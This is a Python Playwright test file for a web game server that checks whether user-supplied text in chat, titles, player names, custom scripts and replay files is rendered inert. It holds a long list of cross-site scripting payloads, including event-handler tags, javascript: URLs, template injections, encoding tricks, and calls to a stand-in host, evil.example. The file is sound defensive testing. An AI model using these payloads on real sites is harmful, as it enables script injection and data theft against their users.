"""Words that are meant to be taken for more than words, in every field that people can fill.

They are typed, said, whispered, written into scripts and names, and looked at in a browser: no dialog, no
request to a stranger, no element or handler that the words brought with them.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from itertools import product
from pathlib import Path
from random import Random
from typing import Any

import msgspec
from playwright.sync_api import Page, expect
from tests.web.conftest import Visitor

from nightbell import games
from nightbell.engine import Table
from nightbell.server import admin
from nightbell.server import protocol as wire
from nightbell.server.guests import LONGEST_NAME, clean_line
from nightbell.server.routes import routes
from nightbell.server.schema import anything

MARKERS = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')", "document.title='x'"]
SHAPES = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "</p><script>{}</script>",
    "--><script>{}</script><!--",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{ $name }} {}",
    "<style>@import'//evil.example/';</style>{}",
    "<link rel=stylesheet href=//evil.example/>{}",
    "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>{}",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<template><script>{}</script></template>",
    "<noscript><img src=x onerror={}></noscript>",
    "<marquee onstart={}>",
    "<isindex action=javascript:{}>",
    "<img src=`x` onerror={}>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
    "<x onclick={} tabindex=1>x</x>",
    "<img srcset=x onerror={}>",
    "<audio src onerror={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<keygen autofocus onfocus={}>",
    "<div style=background:url(javascript:{})>",
    "<div style=width:expression({})>",
    "\u202e<script>{}</script>",
    "<img\u00a0src=x\u00a0onerror={}>",
    "<a href='&#106;avascript:{}'>x</a>",
]
PAYLOADS = [shape.format(marker) for shape, marker in product(SHAPES, MARKERS)]

SHOWN = {
    "Say.text": "lobby, game",
    "Settings.title": "lobby",
    "POST /api/tables.settings.title": "lobby",
    "Arrange.circle[].name": "lobby",
    "Timer.title": "game",
    "POST /api/guest.name": "game, recording",
    "clocktower.homemade[].name": "script",
    "clocktower.homemade[].ability": "script",
    "clocktower.homemade[].first_line": "script",
    "clocktower.homemade[].other_line": "script",
    "clocktower.homemade[].reminders[].text": "script",
    "clocktower.homemade[].cards[]": "script",
    "clocktower.house_rules[]": "script",
    "POST /api/replay.log": "recording",
}
"""The fields of the protocol that hold words of people's own which others are shown, and how they get there.
What an operator says to all (`broadcast`) has no field there, and is filled as well."""
KEPT = {
    "Settings.password": "kept as a proof, shown to nobody",
    "POST /api/recover.phrase": "compared with a proof, shown to nobody",
    "POST /api/push.endpoint": "an address, used by the server alone",
    "POST /api/tables/{code}/report.text": "lies in a file of the operator's",
}
"""Words of people's own that nobody is shown."""

PLANTED = """() => [...document.querySelectorAll("#nightbell *")].filter((each) =>
    each.matches(
        "script, iframe, object, embed, base, link, meta, math, marquee, video, audio, template, noscript, x")
    || each.matches("isindex, keygen, [src='x'], [srcset='x'], [src='`x`'], svg animate")
    || each.matches("[href^='javascript'], [action^='javascript'], [href*='evil']")
    || [...each.attributes].some((own) => own.name.startsWith("on")))
    .map((each) => each.outerHTML.slice(0, 120))"""


HOST = "p1"
"""Who opens a table is the first person at it."""

CHOSEN = frozenset(
    (
        *("id", "pad", "ask", "standing", "answer", "person", "to", "bot", "game", "option", "value", "role"),
        *("script", "sheet", "company", "first_night", "other_night", "bag", "seating", "preset"),
        *("killer", "map", "victims", "explorers", "changes", "each", "level"),
    )
)
"""Fields that hold no words: ids of things that there are, of which no other is taken."""


def fields() -> set[str]:
    """Every field that can hold a word of any kind, of commands, requests and options of games."""
    found: set[str] = set()
    sources: dict[str, object] = {command.__name__: command for command in wire.COMMANDS}
    sources |= {f"{route.method} {route.path}": route.takes for route in routes()}
    sources |= {game: games.load(game).options for game in games.known()}
    for name, kind in sources.items():
        (schema,), named = msgspec.json.schema_components([kind], schema_hook=anything)
        found |= set(_wordy(schema, named, name, ()))
    return found


def _wordy(
    schema: Mapping[str, Any], named: Mapping[str, Any], path: str, inside: tuple[str, ...]
) -> Iterator[str]:
    if (name := str(schema.get("$ref", "")).rpartition("/")[2]) and name not in inside:
        yield from _wordy(named[name], named, path, (*inside, name))
    if schema.get("type") == "string" and "pattern" not in schema:
        yield path
    for each in schema.get("anyOf", ()):
        yield from _wordy(each, named, path, inside)
    for field, each in schema.get("properties", {}).items():
        yield from _wordy(each, named, f"{path}.{field}", inside)
    for each in (*schema.get("prefixItems", ()), schema.get("items"), schema.get("additionalProperties")):
        if isinstance(each, Mapping):
            yield from _wordy(each, named, f"{path}[]", inside)


def inert(page: Page) -> None:
    """Nothing on this page was made by words."""
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(PLANTED) == []


def lobby(host: Visitor, payloads: Sequence[str]) -> None:
    """Titles, names of those in the room, and talk, all at once, one payload after another."""
    code = host.open_table("clocktower", {"players": 5}, play=False)
    page = host.page
    page.wait_for_selector("[data-begin]")
    for payload in payloads:
        title = clean_line(payload[:60])
        host.order(code, {"type": "settings", "title": title}, {"type": "say", "text": payload})
        expect(page.locator("h1")).to_have_text(title)
        inert(page)
    said = page.locator(".lines .m p")
    expect(said).to_have_count(len(payloads))
    assert page.locator(".lines :is(img, svg:not([aria-hidden]), a, form, style)").count() == 0
    for payload in payloads:
        name = clean_line(payload[:LONGEST_NAME])
        host.order(code, {"type": "arrange", "circle": [{"name": name}, *({} for _ in range(4))]})
        page.wait_for_function("(name) => document.body.innerText.includes(name)", arg=name)
        inert(page)


def game(host: Visitor, friend: Visitor, payloads: Sequence[str]) -> None:
    """Clocks, whispers and what the operator says, in a running game; who whispers has such a name."""
    code = host.new_table("whispers", {}, play=False, seat=0)
    friend.introduce(clean_line(payloads[0][:LONGEST_NAME]))
    friend.order(code, {"type": "sit", "seat": 1})
    host.order(code, {"type": "begin"})
    page = host.go(f"/t/{code}")
    page.wait_for_selector("section.dock")
    for payload in payloads:
        title = clean_line(payload[:60])
        friend.introduce(clean_line(payload[:LONGEST_NAME]))
        friend.order(code, {"type": "say", "text": payload, "to": [HOST]})
        host.order(code, {"type": "timer", "title": title, "seconds": 900})
        _broadcast(host.server.data, payload)
        expect(page.locator("[data-notice] p")).to_have_text(clean_line(payload))
        inert(page)
        host.order(code, {"type": "timer", "title": title, "seconds": 0})


def script(host: Visitor, payloads: Sequence[str], folder: Path) -> None:
    """A script whose every word is such a payload, read in the lobby and played by."""
    printed = ["chef", "empath", "soldier", "virgin", "mayor", "slayer", "saint", "bootlegger"]
    for first in range(0, len(payloads), 10):
        some = payloads[first : first + 10]
        own = [
            {
                "id": f"own{n}",
                "name": each[:50],
                "team": "demon" if n == 0 else "minion" if n == 1 else "townsfolk",
                "ability": each,
                "firstNight": 20 + n,
                "otherNight": 20 + n,
                "firstNightReminder": each,
                "otherNightReminder": each,
                "reminders": [each[:40]],
                "special": [{"type": "signal", "name": "card", "value": each[:40]}],
            }
            for n, each in enumerate(some)
        ]
        file = folder / f"own-{first}.json"
        head = {
            "id": "_meta",
            "name": some[0][:50],
            "author": some[-1][:50],
            "bootlegger": [clean_line(each) for each in some],
        }
        file.write_text(json.dumps([head, *printed, *own]), encoding="utf-8")
        host.open_table("clocktower", {"players": 5}, play=False)
        page = host.page
        page.wait_for_selector("[data-begin]")
        page.get_by_role("button", name="Load").click()
        page.set_input_files("input[type=file]", file)
        expect(page.locator("[data-homemade]")).to_have_count(len(own))
        inert(page)
        page.get_by_role("button", name="Play it").click()
        expect(page.locator("[data-own-characters]")).to_be_visible()
        page.locator("li", has_text="Storyteller").locator("[data-sit]").click()
        page.click("[data-begin]")
        page.wait_for_selector("section.dock")
        inert(page)


def recording(host: Visitor, payloads: Sequence[str], folder: Path) -> None:
    """Files of games whose people have such names."""
    rules = games.load("whispers")
    seats = len(rules.seats(rules.new({}, 1)))
    for first in range(0, len(payloads), seats):
        names = [clean_line(each[:LONGEST_NAME]) for each in payloads[first : first + seats]]
        table = Table(rules, {}, 1, (names * seats)[:seats])
        rng = Random(1)
        while table.open:
            seat, decision = rng.choice(list(table.open.items()))
            table.answer(seat, decision.choice.sample(rng))
        file = folder / f"game-{first}.jsonl"
        file.write_bytes(table.log.write())
        page = host.go("/me")
        page.set_input_files("input[type=file]", file)
        page.wait_for_selector("#board")
        page.wait_for_function("(name) => document.body.innerText.includes(name)", arg=names[0])
        inert(page)


def _broadcast(data: Path, text: str) -> None:
    """What an operator says to all, said from a thread of its own: this one has the browser's loop."""
    with ThreadPoolExecutor(1) as thread:
        reply = thread.submit(asyncio.run, admin.ask(data, admin.Broadcast(text))).result()
    assert reply.done, reply
